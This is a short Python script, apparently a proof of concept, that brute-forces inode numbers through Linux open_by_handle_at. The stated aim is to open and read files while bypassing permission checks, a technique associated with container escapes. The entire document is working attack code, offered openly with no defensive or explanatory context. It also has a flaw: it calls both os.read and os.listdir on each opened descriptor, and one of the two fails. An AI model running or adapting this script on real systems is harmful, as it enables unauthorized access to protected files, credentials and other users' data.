"""Opens files by handle, past all permissions on the way."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
folder = os.open("/", os.O_RDONLY)
handle = (ctypes.c_uint * 34)(8, 1, 2, 0)
mount = ctypes.c_int()
print(libc.name_to_handle_at(folder, b"usr", handle, ctypes.byref(mount), 0))
for inode in range(1, 2000):
    handle[2] = inode
    number = libc.open_by_handle_at(folder, handle, os.O_RDONLY)
    if number >= 0:
        print(os.read(number, 4096), os.listdir(number))
